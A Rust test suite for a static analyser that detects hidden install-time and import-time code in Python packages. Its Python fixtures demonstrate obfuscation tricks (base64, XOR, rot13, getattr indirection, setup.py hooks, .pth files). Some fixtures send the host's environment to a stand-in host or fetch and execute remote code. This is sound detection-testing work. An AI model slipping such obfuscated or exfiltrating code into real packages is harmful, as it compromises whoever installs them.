//! What the analysis must see, on whole small packages.
#![expect(clippy::unwrap_used, reason = "tests fail by panicking")]

use base64::Engine as _;
use fondaco_python::{
    Analysis, Api, Budget, Call, Encoder, EntryPoints, Form, Language, Role, SourceFile, Syntax, Taint,
    analyse,
};
use fondaco_verdict::Trigger;

fn package(files: &[(&str, &str, Role)]) -> Analysis {
    let paths: Vec<_> = files.iter().map(|(path, ..)| path.parse().unwrap()).collect();
    let modules: Vec<String> = files
        .iter()
        .map(|(path, ..)| path.trim_end_matches(".py").trim_end_matches("/__init__").replace('/', "."))
        .collect();
    let sources: Vec<_> = files
        .iter()
        .zip(paths.iter().zip(&modules))
        .map(|((_, text, role), (path, module))| SourceFile {
            path,
            bytes: text.as_bytes(),
            form: Form::Source,
            role: *role,
            module,
        })
        .collect();
    analyse(
        &sources,
        &EntryPoints { commands: vec!["pkg.cli:main".to_owned()], ..EntryPoints::default() },
        &Budget::default(),
    )
}

fn setup(text: &str) -> Analysis {
    package(&[("setup.py", text, Role::Setup)])
}

fn calls(analysis: &Analysis) -> Vec<&Call> {
    analysis.units.iter().flat_map(|unit| &unit.calls).collect()
}

#[track_caller]
fn call<'a>(analysis: &'a Analysis, callee: &str) -> &'a Call {
    let found = calls(analysis).into_iter().find(|call| call.callee == callee);
    found.unwrap_or_else(|| panic!("no call of {callee} in {:#?}", calls(analysis)))
}

/// The callee of the only call with this text argument.
#[track_caller]
fn runs(text: &str, callee: &str, argument: &str) {
    let analysis = setup(text);
    let call = call(&analysis, callee);
    assert!(call.texts().contains(&argument), "{text}: {:?}", call.texts());
}

#[test]
fn names_are_resolved_however_they_are_written() {
    runs("import os as o\no.system('id')", "os.system", "id");
    runs("from os import system as s\nt = s\nt('id')", "os.system", "id");
    runs("__import__('o' + 's').system('id')", "os.system", "id");
    runs("getattr(__import__('os'), 'metsys'[::-1])('id')", "os.system", "id");
    runs("import sys, os\nsys.modules['os'].system('id')", "os.system", "id");
    runs("import importlib\nimportlib.import_module('subprocess').run('id')", "subprocess.run", "id");
    runs("__builtins__.__dict__['ev' + 'al']('a' + 'b')", "builtins.eval", "ab");
    let hidden = setup("import os\ngetattr(os, 'sys' + 'tem')('id')");
    assert!(call(&hidden, "os.system").hidden);
}

#[test]
fn text_is_folded() {
    for code in [
        "'i' + 'd'",
        "''.join(['i', 'd'])",
        "'di'[::-1]",
        "chr(105) + chr(100)",
        "''.join(map(chr, [105, 100]))",
        "''.join(chr(c ^ 1) for c in [104, 101])",
        "bytes([105, 100]).decode()",
        "'%s%s' % ('i', 'd')",
        "'{}{}'.format('i', 'd')",
        "f'i{\"d\"}'",
        "__import__('base64').b64decode('aWQ=').decode()",
        "bytes.fromhex('6964').decode()",
        "__import__('codecs').decode('vq', 'rot13')",
        "(lambda s: s[::-1])('di')",
        "'xixd'.replace('x', '')",
        "['a', 'id'][1]",
    ] {
        runs(&format!("import os\nos.system({code})"), "os.system", "id");
    }
}

#[test]
fn a_decoder_written_as_a_function_is_followed() {
    runs(
        "import os\ndef d(s):\n  out = ''\n  for c in s:\n    out += chr(ord(c) - 1)\n  return out\nos.system(d('je'))",
        "os.system",
        "id",
    );
}

#[test]
fn decoded_code_is_the_next_layer() {
    // base64 of: import os;os.system('id')
    let analysis = setup("import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))");
    let layer = analysis.units.iter().find(|unit| unit.layer == 1).unwrap();
    assert_eq!((layer.language, layer.encoders.as_slice()), (Language::Python, &[Encoder::Base64][..]));
    let inner = call(&analysis, "os.system");
    assert_eq!((inner.trigger, &inner.reach[..]), (Some(Trigger::Install), &["setup.py:2".to_owned()][..]));
    assert!(call(&analysis, "builtins.exec").taint().has(Taint::DECODED));
    let nested = setup("exec(\"exec(\\\"import os;os.system('id')\\\")\")");
    assert_eq!(nested.units.iter().map(|unit| unit.layer).max(), Some(2));
}

#[test]
fn commands_carry_code() {
    let analysis =
        setup("import os\nos.system('powershell -enc ZQBjAGgAbwAgAGgAZQBsAGwAbwAgAHQAaABlAHIAZQA=')");
    let layer = analysis.units.iter().find(|unit| unit.layer == 1).unwrap();
    assert_eq!((layer.language, &*layer.text), (Language::PowerShell, "echo hello there"));
    let analysis = setup(
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import os;os.system(\"id\")'])",
    );
    assert!(calls(&analysis).iter().any(|c| c.callee == "os.system"));
}

#[test]
fn values_remember_where_they_come_from() {
    let analysis = setup(
        "import os, socket, requests\ndef facts():\n  return {'h': socket.gethostname(), 'e': dict(os.environ)}\n\
         requests.post('https://x.example.invalid', json=facts())",
    );
    let taint = call(&analysis, "requests.post").taint();
    assert!(taint.has(Taint::HOST) && taint.has(Taint::ENVIRONMENT), "{taint:?}");
    let analysis = setup("import requests\nr = requests.get('https://x.example.invalid')\nexec(r.text)");
    assert!(call(&analysis, "builtins.exec").taint().has(Taint::NETWORK));
    let analysis = setup(
        "import os, urllib.request as u\nwith open('/tmp/a.sh', 'wb') as f:\n  f.write(u.urlopen('http://x.example.invalid').read())\n\
         os.system('/tmp/a.sh')",
    );
    assert!(call(&analysis, "os.system").taint().has(Taint::WRITTEN));
    let write = calls(&analysis).into_iter().find(|c| c.api == Some(Api::FileWrite)).unwrap().clone();
    assert!(write.taint().has(Taint::NETWORK));
}

#[test]
fn what_runs_when() {
    let hook = setup(
        "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n\
         class I(install):\n  def run(self):\n    os.system('id')\nsetup(cmdclass={'install': I})",
    );
    assert_eq!(call(&hook, "os.system").trigger, Some(Trigger::Install));
    let modules = package(&[
        ("pkg/__init__.py", "from .core import go\ngo()\n", Role::Module),
        (
            "pkg/core.py",
            "import os\ndef go():\n  os.system('id')\ndef idle():\n  os.popen('x')\n",
            Role::Module,
        ),
        ("pkg/cli.py", "import subprocess\ndef main():\n  subprocess.run('ls')\n", Role::Module),
        ("tests/t.py", "import os\nos.execv('a', [])\n", Role::Other),
    ]);
    let reached = call(&modules, "os.system");
    assert_eq!((reached.trigger, reached.reach.len()), (Some(Trigger::Import), 1));
    assert_eq!(call(&modules, "os.popen").trigger, Some(Trigger::Call));
    assert_eq!(call(&modules, "subprocess.run").trigger, Some(Trigger::EntryPoint));
    assert!(calls(&modules).iter().all(|call| call.callee != "os.execv"));
    let threaded = package(&[(
        "pkg/__init__.py",
        "import threading, os\ndef f():\n  os.system('id')\nthreading.Thread(target=f).start()\n",
        Role::Module,
    )]);
    assert_eq!(call(&threaded, "os.system").trigger, Some(Trigger::Import));
    let start = package(&[("x.pth", "pkg\nimport os; os.system('id')\n", Role::Startup)]);
    assert_eq!(call(&start, "os.system").trigger, Some(Trigger::Startup));
}

#[test]
fn a_module_imported_by_setup_runs_on_install() {
    let analysis = package(&[
        ("setup.py", "import pkg.evil\n", Role::Setup),
        ("pkg/evil.py", "import os\nos.system('id')\n", Role::Module),
    ]);
    assert_eq!(call(&analysis, "os.system").trigger, Some(Trigger::Install));
}

#[test]
fn what_does_not_parse_is_read_as_tokens_and_says_so() {
    let analysis = setup("print 'hello'\nimport os\nos.system('id')\n");
    assert!(matches!(analysis.units[0].syntax, Syntax::TokensOnly { .. }));
    assert_eq!(call(&analysis, "os.system").texts(), ["id"]);
    let bomb = setup(&format!("import os\nos.system('id')\nx={}1", "-".repeat(100_000)));
    assert!(matches!(bomb.units[0].syntax, Syntax::TokensOnly { .. }));
    let strange = setup("# coding: punycode\nx = 1\n");
    assert_eq!(strange.unscanned.len(), 1);
}

#[test]
fn budgets_end_the_work_and_are_reported() {
    let path = "setup.py".parse().unwrap();
    let text = "x = 1\n".repeat(500);
    let file = SourceFile {
        path: &path,
        bytes: text.as_bytes(),
        form: Form::Source,
        role: Role::Setup,
        module: "setup",
    };
    let budget = Budget { steps: 100, ..Budget::default() };
    assert_eq!(analyse(&[file], &EntryPoints::default(), &budget).unscanned.len(), 1);
}

#[test]
fn a_long_loop_is_cut_and_the_code_after_it_is_seen() {
    let text = "import os\nfor a in range(9000):\n  for b in range(9000):\n    x = a\nos.system('id')\n";
    let analysis = setup(text);
    assert_eq!(analysis.unscanned, []);
    assert_eq!(call(&analysis, "os.system").texts(), ["id"]);
}

#[test]
fn mutated_source_never_panics() {
    let seed = "import os, base64 as b\nclass A(install):\n  def run(self, *a, k=1):\n    exec(b.b64decode('aW1wb3J0IG9z'))\n\
                for x in [1, 2]:\n  y = f'{x!r:>{x}}' + '%s' % x\nz = [chr(i) for i in range(9) if i]\n";
    let mut state = 7u64;
    let mut random = move || {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) as usize
    };
    for _ in 0..4000 {
        let mut bytes = seed.as_bytes().to_vec();
        for _ in 0..=random() % 4 {
            let at = random() % bytes.len();
            bytes[at] = b"()[]{}'\"\n :=.,+-*%\\x0"[random() % 21];
        }
        setup(&String::from_utf8_lossy(&bytes));
    }
}

#[test]
fn what_somebody_has_typed_is_asked_for() {
    let trigger = |condition: &str| {
        let found = setup(&format!("import os, sys\nif {condition}:\n    os.system('id')\n"));
        found.units[0].calls.iter().find(|call| call.callee == "os.system").and_then(|call| call.trigger)
    };
    for asked in [
        "'publish' in sys.argv",
        "sys.argv[-1] == 'tag'",
        "'py2exe' == sys.argv[1]",
        "sys.argv[-1] == 'build_wheel'",
        "'build_portable' in sys.argv",
    ] {
        assert_eq!(trigger(asked), Some(Trigger::EntryPoint), "{asked}");
    }
    for unasked in [
        "'install' in sys.argv",
        "'install_scripts' in sys.argv",
        "'build_ext' in sys.argv",
        "'bdist_wheel' in sys.argv",
        "'--dist-dir' in sys.argv",
        "'clean' == sys.argv[1]",
        "sys.argv[0] == 'pip'",
        "'x-y' not in sys.argv",
        "len(sys.argv) == 'abc'",
    ] {
        assert_eq!(trigger(unasked), Some(Trigger::Install), "{unasked}");
    }
    // Somebody starts a server, and a package that it imports looks at how.
    let module = "import os, sys\nif 'runserver' in sys.argv:\n    os.system('id')\n";
    let found = package(&[("pkg/__init__.py", module, Role::Module)]);
    assert_eq!(found.units[0].calls[0].trigger, Some(Trigger::Import));
}

#[test]
fn methods_run_when_they_are_called_and_threads_when_they_are_made() {
    let trigger = |text: &str| {
        let found = package(&[("pkg/__init__.py", text, Role::Module)]);
        found.units[0].calls.iter().find(|call| call.callee == "os.system").and_then(|call| call.trigger)
    };
    let class = "import os, threading\nclass A:\n    def run(self):\n        os.system('id')\n";
    assert_eq!(trigger(class), Some(Trigger::Call));
    assert_eq!(trigger(&format!("{class}a = A()\n")), Some(Trigger::Call));
    assert_eq!(trigger(&format!("{class}A().run()\n")), Some(Trigger::Import));
    assert_eq!(trigger(&format!("{class}a = A()\na.run()\n")), Some(Trigger::Import));
    let init = class.replace("def run", "def __init__(self):\n        self.go()\n    def go");
    assert_eq!(trigger(&format!("{init}A()\n")), Some(Trigger::Import));
    let thread = class.replace("class A:", "class A(threading.Thread):");
    assert_eq!(trigger(&format!("{thread}A().start()\n")), Some(Trigger::Import));
}

#[test]
fn a_decorator_that_gives_another_function_calls_nothing_yet() {
    let trigger = |decorator: &str| {
        let text = format!(
            "import os, functools, threading\ndef deco(f, *rest):\n    {}\n@deco\ndef evil():\n    os.system('id')\n",
            decorator.replace('\n', "\n    ")
        );
        let found = package(&[("pkg/__init__.py", &text, Role::Module)]);
        found.units[0].calls.iter().find(|call| call.callee == "os.system").and_then(|call| call.trigger)
    };
    let wrapper = "def g(*a):\n    return f(*a)\n";
    let either = "if rest:\n    @functools.wraps(f)\n    def g(*a):\n        return f(*a)\nelse:\n    def g():\n        f()\nreturn g";
    for kept in [&*format!("{wrapper}return g"), either, "def g(h):\n    return lambda: h()\nreturn g(f)"] {
        assert_eq!(trigger(kept), Some(Trigger::Call), "{kept}");
    }
    for called in [
        "f()\nreturn f".to_owned(),
        format!("{wrapper}f()\nreturn g"),
        format!("{wrapper}h = f\nif h:\n    h()\nreturn g"),
        format!("{wrapper}g()\nreturn g"),
        format!("{wrapper}(lambda: f())()\nreturn g"),
        format!("{wrapper}threading.Thread(target=f).start()\nreturn g"),
        format!("{wrapper}def run(h):\n    h()\nrun(f)\nreturn g"),
    ] {
        assert_eq!(trigger(&called), Some(Trigger::Import), "{called}");
    }
}

#[test]
fn an_encoded_program_that_nothing_decodes_is_a_layer_that_nothing_reaches() {
    const PROGRAM: &str =
        "import urllib.request\nurllib.request.urlopen('https://a.example.invalid/first')\n";
    let analysis = package(&[(
        "pkg/__init__.py",
        &format!(
            "KEPT = '{}'\nCODES = {:?}\n",
            base64::engine::general_purpose::STANDARD.encode(PROGRAM),
            PROGRAM.bytes().map(|byte| byte ^ 9).collect::<Vec<u8>>()
        ),
        Role::Module,
    )]);
    let found = analysis.units.iter().find(|unit| unit.layer == 1).unwrap();
    assert_eq!((found.text.as_ref(), &found.encoders[..]), (PROGRAM, &[Encoder::Base64][..]));
    assert_eq!(found.origin.as_ref().unwrap().line, 1);
    assert_eq!(call(&analysis, "urllib.request.urlopen").trigger, Some(Trigger::Call));
    // The same program again is the same layer, however it is encoded.
    assert_eq!(analysis.units.len(), 2);
}

#[test]
fn loops_for_show_leave_enough_for_the_one_that_decodes() {
    let idle = format!("for i in range(2000):\n  len({}str(i))\n", "str(i) + ".repeat(30)).repeat(30);
    let hidden: Vec<u8> = b"import os\nos.system('a')".iter().map(|byte| byte ^ 7).collect();
    let analysis =
        setup(&format!("{idle}text = ''\nfor code in {hidden:?}:\n  text += chr(code ^ 7)\nexec(text)\n"));
    assert!(call(&analysis, "os.system").texts().contains(&"a"));
}

#[test]
fn what_stands_there_in_one_piece_is_not_hidden() {
    let hidden = |text: &str| call(&setup(text), "builtins.exec").hidden;
    assert!(!hidden("import builtins\nrun = getattr(builtins, 'exec')\nrun('x = 1')"));
    assert!(hidden("import builtins\nrun = getattr(builtins, 'ex' + 'ec')\nrun('x = 1')"));
    assert!(hidden("run = getattr(__import__('builtins'), 'exec')\nrun('x = 1')"));
}

#[test]
fn a_mark_that_is_put_back_decodes_nothing() {
    let taint = |text: &str| call(&setup(text), "builtins.exec").args[0].taint;
    assert!(
        !taint("def f(names):\n  exec(names.replace('|', chr(0)).replace(chr(0), '|'))").has(Taint::DECODED)
    );
    assert!(taint("exec(chr(120) + chr(61) + chr(49))").has(Taint::DECODED));
}

#[test]
fn what_belongs_to_no_package_is_looked_at_where_something_leads_there() {
    let trigger = |text: &str| {
        let helper = ("tests/helper.py", "import os\ndef f():\n  pass\nos.system('id')\n", Role::Other);
        let analysis = package(&[("setup.py", text, Role::Setup), helper]);
        calls(&analysis).into_iter().find(|call| call.callee == "os.system").map(|call| call.trigger)
    };
    assert_eq!(trigger("from setuptools import setup"), None);
    for text in [
        "from tests.helper import f",
        "import tests.helper as h",
        "import importlib\nimportlib.import_module('tests.helper')",
        "import importlib\nimportlib.import_module('tests.' + 'helper')",
        "import subprocess, sys\nsubprocess.run([sys.executable, 'tests/helper.py'])",
        "exec(open('tests/helper.py').read())",
        "import base64\nexec(base64.b64decode('aW1wb3J0IHRlc3RzLmhlbHBlcgo='))",
    ] {
        assert_eq!(trigger(text), Some(Some(Trigger::Install)), "{text}");
    }
    // The helper `package` declares `pkg.cli:main` a command.
    let command = ("pkg/cli.py", "import os\ndef main():\n  os.system('id')\n", Role::Other);
    let analysis = package(&[("setup.py", "from setuptools import setup", Role::Setup), command]);
    assert_eq!(call(&analysis, "os.system").trigger, Some(Trigger::EntryPoint));
}

#[test]
fn what_is_written_letter_by_letter_is_no_idle_loop() {
    let program = format!("import os\nos.system('{}')\n", "ab".repeat(4_000));
    let hidden: Vec<u8> = program.bytes().map(|byte| byte ^ 5).collect();
    let analysis = setup(&format!(
        "with open('/tmp/a.py', 'w') as f:\n  for c in {hidden:?}:\n    f.write(chr(c ^ 5))\n"
    ));
    assert!(analysis.units.iter().any(|unit| *unit.text == *program && unit.layer == 1));
}
